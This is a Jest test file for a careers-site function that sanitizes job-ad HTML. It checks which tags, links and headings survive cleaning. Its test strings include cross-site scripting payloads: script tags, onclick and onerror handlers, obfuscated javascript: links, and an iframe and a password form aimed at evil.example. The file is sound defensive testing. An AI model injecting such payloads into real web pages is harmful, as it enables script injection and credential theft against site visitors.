import { sanitizeJobHtml } from '../../src/careers/sanitize';

describe('job HTML on careers pages', () => {
  it('keeps the text structure a job ad uses', () => {
    const html = '<p>We <strong>build</strong> <em>things</em>.</p><ul><li>TypeScript</li></ul><h3>Perks</h3><ol><li>Pension</li></ol>';
    expect(sanitizeJobHtml(html)).toBe(html);
  });

  it('drops scripts with their content, event handlers, styles, frames, forms and images', () => {
    const dirty = [
      '<p onclick="steal()">Hi<script>window.pwned = 1</script></p>',
      '<style>body { display: none }</style>',
      '<p style="position:fixed;top:0">Overlay</p>',
      '<img src="x" onerror="steal()">',
      '<iframe src="https://evil.example"></iframe>',
      '<form action="https://evil.example"><input name="password"></form>',
      '<svg><script>steal()</script></svg>',
    ].join('');
    const clean = sanitizeJobHtml(dirty);
    expect(clean).toBe('<p>Hi</p><p>Overlay</p>');
  });

  it('keeps only http, https and mailto links, marked nofollow', () => {
    expect(sanitizeJobHtml('<a href="javascript:steal()">x</a>')).toBe('<a rel="nofollow noopener noreferrer">x</a>');
    expect(sanitizeJobHtml('<a href="JaVaScRiPt&colon;steal()">x</a>')).toBe('<a rel="nofollow noopener noreferrer">x</a>');
    expect(sanitizeJobHtml('<a href="//evil.example/x">x</a>')).toBe('<a rel="nofollow noopener noreferrer">x</a>');
    expect(sanitizeJobHtml('<a href="https://acme.example/benefits" target="_top" rel="opener">benefits</a>')).toBe(
      '<a href="https://acme.example/benefits" rel="nofollow noopener noreferrer">benefits</a>',
    );
    expect(sanitizeJobHtml('<a href="mailto:jobs@acme.example">mail</a>')).toContain('href="mailto:jobs@acme.example"');
  });

  it('demotes the ad’s own top-level headings below the page’s', () => {
    expect(sanitizeJobHtml('<h1>About</h1><h2>Role</h2><h4>Team</h4>')).toBe('<h3>About</h3><h3>Role</h3><h4>Team</h4>');
  });

  it('leaves text that only looks like markup escaped', () => {
    expect(sanitizeJobHtml('<p>1 &lt; 2 &amp;&amp; &lt;script&gt;</p>')).toBe('<p>1 &lt; 2 &amp;&amp; &lt;script&gt;</p>');
  });
});
